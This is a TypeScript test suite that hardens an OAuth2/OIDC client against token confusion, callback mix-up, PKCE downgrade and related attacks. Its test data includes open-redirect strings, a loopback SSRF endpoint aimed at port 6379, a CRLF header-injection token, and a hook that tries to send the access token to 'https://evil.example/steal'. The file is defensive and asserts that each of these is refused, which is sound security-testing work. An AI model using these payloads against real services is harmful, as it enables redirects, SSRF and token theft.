// Hardening found in review: token confusion, mix-up by callback path, open redirects, max_age,
// discovery pointing at loopback, refresh continuity, API origins, token syntax, PKCE downgrade.
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { OAuth2Flow } from '../../../src/client/oauth2-flow.ts'
import { code } from '../../helpers/assert-code.ts'
import { ISSUER } from '../../helpers/fake-op.ts'
import { FAKE_PROVIDER, login, setup } from '../../helpers/flow-setup.ts'

const now = (): number => Math.floor(Date.now() / 1000)

describe('token confusion (RFC 8725 §3.11)', () => {
  for (const typ of ['at+jwt', 'logout+jwt', 'application/at+jwt']) {
    it(`refuses an ID token with typ ${typ}`, async () => {
      const { op, flow } = await setup({ idTokenHeader: () => ({ typ }) })
      await assert.rejects(login(op, flow), code('id_token_invalid'))
    })
  }
  it('accepts typ JWT in any case', async () => {
    const { op, flow } = await setup({ idTokenHeader: () => ({ typ: 'jwt' }) })
    await login(op, flow)
  })
})

describe('callback path and input forms', () => {
  it('refuses a callback that arrived at another path (mix-up), before any token request', async () => {
    const { op, flow } = await setup()
    const { url, flowState } = await flow.initiateLogin()
    const callback = await op.authorize(url)
    callback.pathname = '/auth/callback/other'
    await assert.rejects(flow.finalizeLogin(callback, flowState), code('callback_invalid'))
    assert.equal(op.count('/token'), 0)
  })

  it('accepts another scheme and host (a proxy) with the same path, and a GET Request', async () => {
    const { op, flow } = await setup()
    const a = await flow.initiateLogin()
    const behindProxy = await op.authorize(a.url)
    behindProxy.protocol = 'http:'
    behindProxy.host = '10.0.0.5:8080'
    await flow.finalizeLogin(behindProxy, a.flowState)
    const b = await flow.initiateLogin()
    await flow.finalizeLogin(new Request(await op.authorize(b.url)), b.flowState)
  })

  it('refuses a POST callback (form_post is not supported)', async () => {
    const { op, flow } = await setup()
    const { url, flowState } = await flow.initiateLogin()
    const req = new Request(await op.authorize(url), { method: 'POST' })
    await assert.rejects(flow.finalizeLogin(req, flowState), code('callback_invalid'))
  })

  it('refuses a flow state without a verifier for a PKCE provider (downgrade)', async () => {
    const { op, flow } = await setup()
    const { url, flowState } = await flow.initiateLogin()
    const { codeVerifier: _, ...downgraded } = flowState
    await assert.rejects(
      flow.finalizeLogin(await op.authorize(url), downgraded),
      code('flow_state_malformed'),
    )
    assert.equal(op.count('/token'), 0)
  })
})

describe('returnTo', () => {
  for (const bad of [
    '//evil.example',
    '/\\evil.example',
    'https://evil.example',
    'evil',
    '/a\nb',
    `/${'x'.repeat(1024)}`,
    '/\t/evil',
  ]) {
    it(`refuses ${JSON.stringify(bad.slice(0, 20))}`, async () => {
      const { flow } = await setup()
      await assert.rejects(flow.initiateLogin({ returnTo: bad }), code('return_to_invalid'))
    })
  }
  it('accepts a path with a query and unicode', async () => {
    const { flow } = await setup()
    const { flowState } = await flow.initiateLogin({ returnTo: '/compte/é?x=1#top' })
    assert.equal(flowState.returnTo, '/compte/é?x=1#top')
  })
})

describe('authorization parameters', () => {
  for (const name of ['response_mode', 'request', 'request_uri']) {
    it(`refuses ${name} in extraParams and in the provider config`, async () => {
      const { flow } = await setup()
      await assert.rejects(
        flow.initiateLogin({ extraParams: { [name]: 'x' } }),
        code('config_invalid'),
      )
      assert.throws(
        () => new OAuth2Flow({ ...FAKE_PROVIDER, authorizationParams: { [name]: 'x' } }),
        code('config_invalid'),
      )
    })
  }

  it('enforces max_age on auth_time', async () => {
    const fresh = await setup({ idTokenClaims: (c) => ({ ...c, auth_time: now() - 30 }) })
    const start = await fresh.flow.initiateLogin({ extraParams: { max_age: '60' } })
    assert.equal(start.url.searchParams.get('max_age'), '60')
    assert.equal(start.flowState.maxAge, 60)
    await fresh.flow.finalizeLogin(await fresh.op.authorize(start.url), start.flowState)

    const stale = await setup({ idTokenClaims: (c) => ({ ...c, auth_time: now() - 3600 }) })
    const s2 = await stale.flow.initiateLogin({ extraParams: { max_age: '60' } })
    await assert.rejects(
      stale.flow.finalizeLogin(await stale.op.authorize(s2.url), s2.flowState),
      code('id_token_claim_invalid'),
    )

    const missing = await setup()
    const s3 = await missing.flow.initiateLogin({ extraParams: { max_age: '60' } })
    await assert.rejects(
      missing.flow.finalizeLogin(await missing.op.authorize(s3.url), s3.flowState),
      code('id_token_claim_invalid'),
    )
    await assert.rejects(
      missing.flow.initiateLogin({ extraParams: { max_age: 'soon' } }),
      code('config_invalid'),
    )
  })

  it('asks for acrValues and refuses an ID token without one of them (OIDC Core §5.5.1.1)', async () => {
    const met = await setup({ idTokenClaims: (c) => ({ ...c, acr: 'phr' }) })
    const start = await met.flow.initiateLogin({ acrValues: ['mfa', 'phr'] })
    // The fake OP does not advertise the claims parameter: acr_values carries the request.
    assert.equal(start.url.searchParams.get('acr_values'), 'mfa phr')
    assert.equal(start.url.searchParams.get('claims'), null)
    await met.flow.finalizeLogin(await met.op.authorize(start.url), start.flowState)

    for (const acr of [undefined, 'sfa', ['mfa'], 'MFA']) {
      const downgraded = await setup({ idTokenClaims: (c) => ({ ...c, acr }) })
      const s = await downgraded.flow.initiateLogin({ acrValues: ['mfa', 'phr'] })
      await assert.rejects(
        downgraded.flow.finalizeLogin(await downgraded.op.authorize(s.url), s.flowState),
        code('id_token_claim_invalid'),
        JSON.stringify(acr),
      )
    }
    const { flow } = await setup()
    for (const acrValues of [[], ['has space'], Array(11).fill('x')])
      await assert.rejects(flow.initiateLogin({ acrValues }), code('config_invalid'))
  })

  it('refuses malformed scopes given per login', async () => {
    const { flow } = await setup()
    await assert.rejects(
      flow.initiateLogin({ scopes: ['openid admin:all'] }),
      code('config_invalid'),
    )
  })
})

describe('discovery cannot aim calls at loopback', () => {
  it('refuses http loopback endpoints published by an https issuer', async () => {
    const { flow } = await setup({
      discovery: (d) => ({ ...d, token_endpoint: 'http://127.0.0.1:6379/' }),
    })
    await assert.rejects(flow.initiateLogin(), code('discovery_invalid'))
  })

  it('still runs discovery when the issuer comes with one explicit endpoint', async () => {
    const { op, flow } = await setup({}, { tokenEndpoint: `${ISSUER}/token` })
    await login(op, flow)
    assert.equal(op.count('/.well-known/openid-configuration'), 1)
  })

  it("discovery: 'none' with openid needs a jwksUri", () => {
    assert.throws(
      () =>
        new OAuth2Flow({
          ...FAKE_PROVIDER,
          discovery: 'none',
          authorizationEndpoint: `${ISSUER}/authorize`,
          tokenEndpoint: `${ISSUER}/token`,
          scopes: ['openid'],
        }),
      code('config_invalid'),
    )
  })

  it("discovery: 'none' honours requireIssParameter", async () => {
    const { op, flow } = await setup(
      {},
      {
        discovery: 'none',
        authorizationEndpoint: `${ISSUER}/authorize`,
        tokenEndpoint: `${ISSUER}/token`,
        jwksUri: `${ISSUER}/jwks`,
        idTokenAlgorithms: ['ES256'],
        requireIssParameter: true,
      },
    )
    const { url, flowState } = await flow.initiateLogin()
    const callback = await op.authorize(url)
    callback.searchParams.delete('iss')
    await assert.rejects(flow.finalizeLogin(callback, flowState), code('issuer_missing'))
    assert.equal(op.count('/.well-known/openid-configuration'), 0)
  })
})

describe('refresh continuity (OIDC Core §12.2)', () => {
  it('checks sub and auth_time against the previous token set', async () => {
    let subject = 'user-42'
    let authTime = now() - 100
    const { op, flow } = await setup({
      idTokenClaims: (c) => ({ ...c, sub: subject, auth_time: authTime }),
    })
    const { tokens } = await login(op, flow)
    const refreshed = await flow.refresh(tokens)
    subject = 'mallory'
    await assert.rejects(flow.refresh(refreshed), code('id_token_claim_invalid'))
    subject = 'user-42'
    authTime += 5
    const again = await login(op, flow)
    authTime += 5
    await assert.rejects(flow.refresh(again.tokens), code('id_token_claim_invalid'))
  })

  it('refuses a token set without a refresh token', async () => {
    const { flow } = await setup()
    await assert.rejects(
      flow.refresh({ accessToken: 'a', tokenType: 'Bearer', raw: {} }),
      code('config_invalid'),
    )
  })
})

describe('claims and API calls', () => {
  it('keeps signed ID token claims over userinfo on overlap', async () => {
    const { op, flow } = await setup({
      idTokenClaims: (c) => ({ ...c, email: 'signed@example.com' }),
      userinfo: (u) => ({
        ...u,
        email: 'unsigned@example.com',
        iss: 'https://evil.example',
        nonce: 'x',
      }),
    })
    const { identity } = await login(op, flow)
    assert.equal(identity.email, 'signed@example.com')
    assert.equal(identity.claims.iss, ISSUER)
  })

  it('sends the access token only to the provider origins from enrichClaims', async () => {
    const { op, flow } = await setup(
      {},
      {
        enrichClaims: async (claims: object, get: (u: string) => Promise<unknown>) => ({
          ...claims,
          extra: await get('https://evil.example/steal'),
        }),
      },
    )
    await assert.rejects(login(op, flow), code('config_invalid'))
    assert.equal(
      op.requests.some((r) => r.url.startsWith('https://evil.example')),
      false,
    )
  })
})

describe('token syntax', () => {
  it('refuses an access token with control characters', async () => {
    const { op, flow } = await setup({
      tokenResponse: (b) => ({ ...b, access_token: 'abc\r\nX-Injected: 1' }),
    })
    await assert.rejects(login(op, flow), code('token_response_invalid'))
  })

  it('reads an absurd expires_in as ten years', async () => {
    const { op, flow } = await setup({ tokenResponse: (b) => ({ ...b, expires_in: 1e308 }) })
    const { tokens } = await login(op, flow)
    assert.ok(
      tokens.expiresAt &&
        Number.isFinite(tokens.expiresAt) &&
        tokens.expiresAt < Date.now() + 316e9,
    )
  })

  it('refuses a non-integer timeout or JWKS timing at construction', () => {
    assert.throws(
      () => new OAuth2Flow(FAKE_PROVIDER, { timeoutMs: 2500.5 }),
      code('config_invalid'),
    )
    assert.throws(
      () => new OAuth2Flow(FAKE_PROVIDER, { jwks: { cooldownMs: -1 } }),
      code('config_invalid'),
    )
  })
})
